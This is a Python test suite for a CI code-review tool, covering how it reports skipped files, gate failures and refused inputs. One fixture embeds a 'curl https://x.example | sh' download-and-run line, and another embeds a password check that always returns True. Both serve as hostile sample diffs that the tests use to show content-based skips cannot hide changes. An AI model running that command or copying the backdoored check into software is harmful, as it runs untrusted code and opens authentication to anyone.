"""`reviewbot review` as a CI gate: it never passes on nothing, says what it did not see in
every format, and refuses input and options that would make it review the wrong thing."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import jsonschema
import pytest

from tests.conftest import DATA, FAKE_KEY, ROOT, FakeResponses, git_repo, main_cli, responses_body

DEMO_DIFF = ROOT / "examples" / "demo.diff"
DEMO_RESPONSE = ROOT / "examples" / "demo-response.json"
SARIF = jsonschema.Draft4Validator(json.loads((DATA / "sarif-schema-2.1.0.json").read_text()))
FORMATS = ("markdown", "json", "sarif", "rdjson", "text")
SMALL = """\
diff --git a/app.py b/app.py
index 1111111..2222222 100644
--- a/app.py
+++ b/app.py
@@ -1,2 +1,2 @@
 def total(xs):
-    return sum(xs)
+    return sum(xs) / len(xs)
"""


def big_file(path: str = "big.py", lines: int = 400) -> str:
    """A new file whose one hunk is larger than a request's budget of 300 tokens."""
    added = "".join(f"+value_{i} = compute_something_long({i}, 'argument')\n" for i in range(lines))
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n"
        f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{lines} @@\n{added}"
    )


def finding(**kw: object) -> dict[str, object]:
    return {
        "path": "app.py",
        "line": 2,
        "start_line": None,
        "side": "RIGHT",
        "severity": "major",
        "title": "Division by zero on an empty list",
        "body": "`len(xs)` can be 0.",
        "code": "    return sum(xs) / len(xs)",
        "suggestion": None,
        **kw,
    }


def review(
    fake: FakeResponses, tmp_path: Path, diff: str, *args: str, findings: tuple = ()
) -> subprocess.CompletedProcess[str]:
    fake.default = (200, {}, responses_body({"summary": "Averages.", "findings": list(findings)}))
    path = tmp_path / "change.diff"
    path.write_text(diff)
    return main_cli(
        "review",
        "--diff",
        str(path),
        "--base-url",
        fake.base_url,
        "--max-request-tokens",
        "300",
        *args,
        REVIEWBOT_API_KEY=FAKE_KEY,
    )


@pytest.mark.parametrize("fmt", FORMATS)
def test_one_oversized_hunk_is_nothing_reviewed_and_exits_1_in_every_format(
    fake_responses: FakeResponses, tmp_path: Path, fmt: str
) -> None:
    p = review(fake_responses, tmp_path, big_file(), "--format", fmt, "--fail-on", "major")
    assert p.returncode == 1, p.stderr
    assert fake_responses.seen == []  # nothing was sent: nothing fit
    err = p.stderr.strip().splitlines()
    assert err[0] == (
        "reviewbot: not reviewed: 1 file(s): big.py "
        "(hunk @@ -0,0 +1,400 @@ is larger than one request's budget)"
    )
    assert err[-1] == (
        "reviewbot: error: nothing was reviewed: every change to review was left out "
        "(big.py: hunk @@ -0,0 +1,400 @@ is larger than one request's budget)"
    )
    if fmt == "json":
        doc = json.loads(p.stdout)
        assert doc["status"] == "failed"
        assert doc["not_reviewed"][0]["path"] == "big.py"
    elif fmt == "sarif":
        log = json.loads(p.stdout)
        assert list(SARIF.iter_errors(log)) == []
        [invocation] = log["runs"][0]["invocations"]
        assert invocation["executionSuccessful"] is False
        notes = invocation["toolExecutionNotifications"]
        assert (
            notes[0]["level"] == "error" and "Nothing was reviewed" in notes[0]["message"]["text"]
        )
        uri = notes[1]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        assert uri == "big.py" and "larger than one request's budget" in notes[1]["message"]["text"]
    else:  # these formats cannot say "failed": an empty output would read as "no findings"
        assert p.stdout == ""


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_partial_review_names_what_it_did_not_see(
    fake_responses: FakeResponses, tmp_path: Path, fmt: str
) -> None:
    p = review(fake_responses, tmp_path, SMALL + big_file(), "--format", fmt, findings=(finding(),))
    assert p.returncode == 0, p.stderr
    assert "reviewbot: not reviewed: 1 file(s): big.py (hunk @@ -0,0 +1,400 @@" in p.stderr
    if fmt == "sarif":
        log = json.loads(p.stdout)
        assert list(SARIF.iter_errors(log)) == []
        [invocation] = log["runs"][0]["invocations"]
        assert invocation["executionSuccessful"] is False
        [note] = invocation["toolExecutionNotifications"]
        assert note["level"] == "warning"
        assert note["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "big.py"
        assert len(log["runs"][0]["results"]) == 1
    elif fmt == "json":
        assert json.loads(p.stdout)["status"] == "partial"
    elif fmt == "text":
        assert p.stdout == "app.py:2:1: major: Division by zero on an empty list\n"
    gate = review(
        fake_responses, tmp_path, SMALL + big_file(), "--format", fmt, "--fail-on", "major"
    )
    assert gate.returncode == 0  # no finding this time: the gate passes, and said what it skipped
    assert "reviewbot: not reviewed: 1 file(s): big.py" in gate.stderr


def new_file(path: str, *lines: str) -> str:
    added = "".join(f"+{ln}\n" for ln in lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n"
        f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{added}"
    )


# Files the PR's own content hides from review (the hostile review's d2.diff and d1.diff), and
# files skipped by their path alone.
GENERATED = new_file(
    "src/auth.py", "# This file is auto-generated", "def check(pw):", "    return True"
)
MINIFIED = new_file(
    "tools/hook.py", "import os; os.system('curl https://x.example | sh')".ljust(520)
)
BY_PATH = new_file("package-lock.json", "{}") + new_file("vendor/lib.py", "x = 1")
HIDDEN_LINE = (
    "reviewbot: error: nothing was reviewed: every changed file was skipped, 1 for what its own "
    "content says: {}; `--include GLOB` reviews them"
)


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    ("diff", "named"),
    [
        (GENERATED, "src/auth.py (generated file (its header says so))"),
        (MINIFIED, "tools/hook.py (minified (very long lines))"),
        (BY_PATH + GENERATED, "src/auth.py (generated file (its header says so))"),
    ],
)
def test_a_gate_fails_when_the_prs_own_content_had_every_file_skipped(
    fake_responses: FakeResponses, tmp_path: Path, fmt: str, diff: str, named: str
) -> None:
    p = review(fake_responses, tmp_path, diff, "--format", fmt, "--fail-on", "nit")
    assert p.returncode == 1, p.stderr
    assert fake_responses.seen == []
    assert p.stderr.strip().splitlines()[-1] == HIDDEN_LINE.format(named)
    if fmt == "json":
        assert json.loads(p.stdout)["status"] == "failed"
    elif fmt == "sarif":
        log = json.loads(p.stdout)
        assert list(SARIF.iter_errors(log)) == []
        [invocation] = log["runs"][0]["invocations"]
        assert invocation["executionSuccessful"] is False
        levels = {
            n["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]: n["level"]
            for n in invocation["toolExecutionNotifications"]
            if "locations" in n
        }
        path = named.split(" ")[0]
        assert levels[path] == "error"  # what the PR hid; a lock file stays a note
        assert all(v == "note" for k, v in levels.items() if k != path)
    else:  # no output that could read as "no findings"
        assert p.stdout == ""


@pytest.mark.parametrize("fail_on", [(), ("--fail-on", "none")])
def test_without_a_gate_a_content_skip_is_still_nothing_to_review(
    fake_responses: FakeResponses, tmp_path: Path, fail_on: tuple[str, ...]
) -> None:
    p = review(fake_responses, tmp_path, GENERATED, "--format", "sarif", *fail_on)
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["runs"][0]["invocations"][0]["executionSuccessful"] is True
    assert "reviewbot: not reviewed: 1 file(s): src/auth.py (generated file" in p.stderr


def test_a_gate_passes_a_diff_skipped_by_path_rules_alone(
    fake_responses: FakeResponses, tmp_path: Path
) -> None:
    p = review(fake_responses, tmp_path, BY_PATH, "--format", "sarif", "--fail-on", "nit")
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["runs"][0]["invocations"][0]["executionSuccessful"] is True
    assert "reviewbot: not reviewed: 2 file(s): package-lock.json (lock file" in p.stderr


def test_include_reviews_what_the_content_would_have_hidden(
    fake_responses: FakeResponses, tmp_path: Path
) -> None:
    hole = finding(path="src/auth.py", line=3, code="    return True", title="Accepts any password")
    args = ("--format", "text", "--fail-on", "major", "--include", "src/auth.py")
    p = review(fake_responses, tmp_path, GENERATED, *args, findings=(hole,))
    assert p.returncode == 3, p.stderr
    assert p.stdout == "src/auth.py:3:1: major: Accepts any password\n"


def test_a_whole_review_is_a_successful_sarif_run_that_notes_the_default_skips() -> None:
    p = main_cli(
        "review",
        "--diff",
        str(DEMO_DIFF),
        "--sample-response",
        str(DEMO_RESPONSE),
        "--format",
        "sarif",
    )
    assert p.returncode == 0, p.stderr
    log = json.loads(p.stdout)
    assert list(SARIF.iter_errors(log)) == []
    [invocation] = log["runs"][0]["invocations"]
    assert invocation["executionSuccessful"] is True
    notes = {
        n["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]: n["level"]
        for n in invocation["toolExecutionNotifications"]
    }
    assert notes == {"package-lock.json": "note", "static/logo.png": "note"}
    assert "reviewbot: not reviewed: 2 file(s): " in p.stderr


def test_an_empty_diff_is_still_nothing_to_review_exit_0() -> None:
    p = main_cli(
        "review", "--diff", "-", "--format", "sarif", stdin=b"", REVIEWBOT_API_KEY=FAKE_KEY
    )
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["runs"][0]["invocations"][0]["executionSuccessful"] is True


def test_a_finding_on_a_path_the_diff_does_not_touch_does_not_trip_fail_on(
    fake_responses: FakeResponses, tmp_path: Path
) -> None:
    elsewhere = finding(path="setup.py", line=9, code=None, severity="critical", title="Far off")
    p = review(fake_responses, tmp_path, SMALL, "--fail-on", "major", findings=(elsewhere,))
    assert p.returncode == 0, p.stderr
    assert "Far off" in p.stdout  # still shown in the review body
    both = review(
        fake_responses, tmp_path, SMALL, "--fail-on", "major", findings=(elsewhere, finding())
    )
    assert both.returncode == 3
    assert "reviewbot: 1 finding(s) at or above major" in both.stderr


def test_fail_on_none_is_accepted(fake_responses: FakeResponses, tmp_path: Path) -> None:
    p = review(fake_responses, tmp_path, SMALL, "--fail-on", "none", findings=(finding(),))
    assert p.returncode == 0, p.stderr
    assert "Division by zero" in p.stdout


@pytest.mark.parametrize("flag", ["--model", "--base-url"])
def test_an_empty_model_or_base_url_is_refused(flag: str) -> None:
    p = main_cli("review", "--diff", str(DEMO_DIFF), flag, "", REVIEWBOT_API_KEY=FAKE_KEY)
    assert p.returncode == 2
    assert p.stderr.strip().splitlines() == [
        f"reviewbot: error: {flag} must not be empty: leave it out for the default"
    ]


@pytest.mark.parametrize("source", [("--staged",), ("--git", "HEAD~1")])
def test_git_sources_outside_a_repository_say_so(tmp_path: Path, source: tuple[str, ...]) -> None:
    p = main_cli("review", *source, "--dry-run", cwd=tmp_path)
    assert p.returncode == 2
    assert p.stderr.strip().splitlines() == [
        f"reviewbot: error: {source[0]}: not a git repository (run it inside one, or use --diff)"
    ]


def two_commits(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    git = git_repo(repo)
    (repo / "a.py").write_text("x = 1\ny = 1\n")
    git("add", "a.py")
    git("commit", "-qm", "Start")
    (repo / "a.py").write_text("x = 2\ny = 1\n")
    git("commit", "-qam", "Make x two\n\nBecause the caller needs an even number.")
    (repo / "a.py").write_text("x = 2\ny = 3\n")
    git("commit", "-qam", "Make y three")
    return repo


@pytest.mark.parametrize(
    "command",
    [["log", "-p", "-2"], ["format-patch", "--stdout", "-2"], ["show", "HEAD~1", "HEAD"]],
)
def test_several_commits_patches_are_refused_with_a_hint(
    tmp_path: Path, command: list[str]
) -> None:
    repo = two_commits(tmp_path)
    patches = subprocess.run(["git", *command], cwd=repo, capture_output=True, check=True).stdout
    p = main_cli("review", "--diff", "-", "--dry-run", stdin=patches)
    assert p.returncode == 2
    [line] = p.stderr.strip().splitlines()
    assert line.startswith("reviewbot: error: this holds 2 commits' patches")
    assert "--git FIRST^..LAST" in line
    one = subprocess.run(["git", "show", "HEAD"], cwd=repo, capture_output=True, check=True)
    single = main_cli("review", "--diff", "-", "--dry-run", stdin=one.stdout)
    assert single.returncode == 0, single.stderr  # one commit's patch is one diff
    assert "R2 + y = 3" in single.stdout


def test_a_git_range_gives_the_model_its_commit_messages_as_untrusted_pr_text(
    tmp_path: Path,
) -> None:
    repo = two_commits(tmp_path)
    p = main_cli("review", "--git", "HEAD~2..HEAD", "--dry-run", cwd=repo)
    assert p.returncode == 0, p.stderr
    data = p.stdout.rsplit("<<<BEGIN UNTRUSTED DATA", 1)[1]  # inside the untrusted block
    assert "Pull request title: Make x two (and 1 more commit)" in data
    assert "Commit 1 of 2: Make x two\n\nBecause the caller needs an even number." in data
    assert "Commit 2 of 2: Make y three" in data
    assert "Start" not in data  # outside the range
    one = main_cli("review", "--git", "HEAD~1", "--dry-run", cwd=repo)
    assert "Pull request title: Make y three" in one.stdout.rsplit("<<<BEGIN UNTRUSTED DATA", 1)[1]
    own = main_cli("review", "--git", "HEAD~1", "--dry-run", "--title", "Mine", cwd=repo)
    assert "Pull request title: Mine" in own.stdout and "Make y three" not in own.stdout


def test_a_split_request_is_labelled_readably(
    fake_responses: FakeResponses, tmp_path: Path
) -> None:
    too_big = (
        400,
        {},
        json.dumps(
            {
                "error": {
                    "message": "Your input exceeds the context window of this model.",
                    "type": "invalid_request_error",
                    "param": "input",
                    "code": "context_length_exceeded",
                }
            }
        ).encode(),
    )
    fake_responses.by_content["WIDE_HUNK"] = too_big
    hunks = "".join(
        f"@@ -{1 + 10 * i},1 +{1 + 10 * i},1 @@\n-a{i} = 0\n+a{i} = {'WIDE_HUNK' if i == 2 else 1}\n"
        for i in range(4)
    )
    diff = f"diff --git a/m.py b/m.py\nindex 1..2 100644\n--- a/m.py\n+++ b/m.py\n{hunks}"
    fake_responses.default = (200, {}, responses_body({"summary": "ok", "findings": []}))
    path = tmp_path / "m.diff"
    path.write_text(diff)
    p = main_cli(
        "review",
        "--diff",
        str(path),
        "--base-url",
        fake_responses.base_url,
        "--format",
        "json",
        REVIEWBOT_API_KEY=FAKE_KEY,
    )
    assert p.returncode == 0, p.stderr
    problems = json.loads(p.stdout)["problems"]
    assert problems == [
        "request 1 of 1, split part 2.1: the request exceeded the model's context window"
    ]
    assert "of 1ba" not in p.stderr and "request 1 of 1, split part 2.1: " in p.stderr
